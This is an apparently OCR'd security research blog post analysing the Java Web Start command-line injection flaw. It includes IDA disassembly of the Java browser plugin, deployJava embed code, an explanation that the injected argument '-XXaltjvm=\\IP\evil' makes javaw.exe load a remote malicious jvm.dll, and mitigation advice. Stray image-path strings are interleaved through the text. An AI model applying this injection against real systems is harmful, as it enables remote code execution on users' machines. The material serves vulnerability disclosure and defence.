JAVA Web Start - Arbitrary Command-Line Injection







Bye bye my little 0day :(, Tavis Ormandy did a great job uncovering a big logic flaw within Java JRE. I discovered that bug and other that affects every browser few weeks ago and I posted the common "0day++" tweet.The method in which Java Web Start support has been added to the JRE is not less than a deliberately embedded backdoor(I really don't think so) or a flagrant case of extreme negligence (+1). Let's see:

Java Plugin for Browsers (Chrome,Firefox...) - Windows: npjp2.dll (The same for IE8's jp2iexp.dll)

.text:6DAA3D96 ; === S U B R O U T I N E ===.text:6DAA3D96 ; Attributes: bp-based frame
.text:6DAA3D96 sub_6DAA3D96    proc near               ; CODE XREF: sub_6DAA2ACB+170p
.text:6DAA3D96 Data            = byte ptr -264h
.text:6DAA3D96 var_263         = byte ptr -263h
.text:6DAA3D96 ApplicationName = byte ptr -160h
.text:6DAA3D96 StartupInfo     = _STARTUPINFOA ptr -5Ch
.text:6DAA3D96 ProcessInformation= _PROCESS_INFORMATION ptr -18h
.text:6DAA3D96 cbData          = dword ptr -8
.text:6DAA3D96 hKey            = dword ptr -4
.text:6DAA3D96 arg_0           = dword ptr  8
.text:6DAA3D96 arg_4           = dword ptr  0Ch
.text:6DAA3D96                 push    ebp.text:6DAA3D97                 mov     ebp, esp
.text:6DAA3D99                 sub     esp, 264h
.text:6DAA3D9F                 push    edi
.text:6DAA3DA0                 lea     eax, [ebp+hKey]
.text:6DAA3DA3                 push    eax             ; phkResult
.text:6DAA3DA4                 push    20019h          ; samDesired
.text:6DAA3DA9                 xor     edi, edi
.text:6DAA3DAB                 push    edi             ; ulOptions
.text:6DAA3DAC                 push    offset SubKey   ; "JNLPFile\\Shell\\Open\\Command"
.text:6DAA3DB1                 push    80000000h       ; hKey
.text:6DAA3DB6                 mov     [ebp+cbData], 104h
.text:6DAA3DBD                 call    ds:RegOpenKeyExA
.text:6DAA3DC3                 test    eax, eax
.text:6DAA3DC5                 jz      short loc_6DAA3DCE
.text:6DAA3DC7                 xor     eax, eax
.text:6DAA3DC9                 jmp     loc_6DAA3F16

The default handler is "javaws.exe",continuing...

.text:6DAA3EB7                 push    [ebp+arg_4]
.text:6DAA3EBA                 push    eax
.text:6DAA3EBB                 push    offset aSDocbaseSS ; "\"%s\" -docbase %s %s"
.text:6DAA3EC0                 push    esi             ; LPSTR
.text:6DAA3EC1                 call    ebx ; wsprintfA
.text:6DAA3EC3                 add     esp, 14h
.text:6DAA3EC6                 jmp     short loc_6DAA3ED4
.text:6DAA3EC8 ; ---.text:6DAA3EC8 loc_6DAA3EC8:                           ; CODE XREF: sub_6DAA3D96+11Fj
.text:6DAA3EC8                 push    eax
.text:6DAA3EC9                 push    offset aSS_0    ; "\"%s\" %s"
.text:6DAA3ECE                 push    esi             ; LPSTR
.text:6DAA3ECF                 call    ebx ; wsprintfA
.text:6DAA3ED1                 add     esp, 10h
.text:6DAA3ED4 loc_6DAA3ED4:                           ; CODE XREF: sub_6DAA3D96+130j
.text:6DAA3ED4                 push    11h
.text:6DAA3ED6                 pop     ecx
.text:6DAA3ED7                 xor     eax, eax
.text:6DAA3ED9                 lea     edi, [ebp+StartupInfo]
.text:6DAA3EDC                 rep stosd
.text:6DAA3EDE                 lea     eax, [ebp+ProcessInformation]
.text:6DAA3EE1                 push    eax             ; lpProcessInformation
.text:6DAA3EE2                 xor     ebx, ebx
.text:6DAA3EE4                 lea     eax, [ebp+StartupInfo]
.text:6DAA3EE7                 push    eax             ; lpStartupInfo
.text:6DAA3EE8                 push    ebx             ; lpCurrentDirectory
.text:6DAA3EE9                 push    ebx             ; lpEnvironment
.text:6DAA3EEA                 push    ebx             ; dwCreationFlags
.text:6DAA3EEB                 push    ebx             ; bInheritHandles.text:6DAA3EEC                 push    ebx             ; lpThreadAttributes
.text:6DAA3EED                 push    ebx             ; lpProcessAttributes
.text:6DAA3EEE                 push    esi             ; lpCommandLine
.text:6DAA3EEF                 lea     eax, [ebp+ApplicationName]
.text:6DAA3EF5                 push    eax             ; lpApplicationName
.text:6DAA3EF6                 mov     [ebp+StartupInfo.cb], 44h
.text:6DAA3EFD                 call    ds:CreateProcessA

So basically the Java-Plugin Browser is running "javaws.exe" without validating command-line parameters. These parameters can be controlled by attackers via specially crafted embed html tags within a webpage.

Let's see JavaDeploy.txt:

 if (browser == 'MSIE') {

            document.write('<' +
                'object classid="clsid:8AD9C840-044E-11D1-B3E9-00805F499D93" ' +
        'width="0" height="0">' +
        '<' + 'PARAM name="launchjnlp" value="' + jnlp + '"' + '>' +
            '<' + 'PARAM name="docbase" value="' + jnlpDocbase + '"' + '>' +
                '<' + '/' + 'object' + '>');
        } else if (browser == 'Netscape Family') {

            document.write('<' +
        'embed type="application/x-java-applet;jpi-version=' +
        deployJava.firefoxJavaVersion + '" ' +
                'width="0" height="0" ' +
                'launchjnlp="' +  jnlp + '"' +
                'docbase="' +  jnlpDocbase + '"' +
                ' />');

That's it. This is how JAVA Plugin identifies Java Web Start content (jnlp files).So We can inject command-lineparameters through "docbase" tag and even "launchjnlp".

What type of arguments can we abuse to compromise a system?
java.exe and javaw.exe support an undocumented-hidden command-line parameter "-XXaltjvm" and curiosly also "-J-XXaltjvm" (see -J switch in javaws.exe). This instructs Java to loadan alternative JavaVM library (jvm.dll or from the desired path.Game over. We can set -XXaltjvm=\\IP\evil , in this way javaw.exe will load our evil jvm.dll. Bye bye ASLR, DEP...


Same logic error, check this function "_Z10launchJNLPPKcS0" inNot vulnerable.


Disable javaws/javaws.exe in linux and Windows by any mean. Disable Deployment Toolkit to avoid unwanted installation as stated in Tavis' advisory.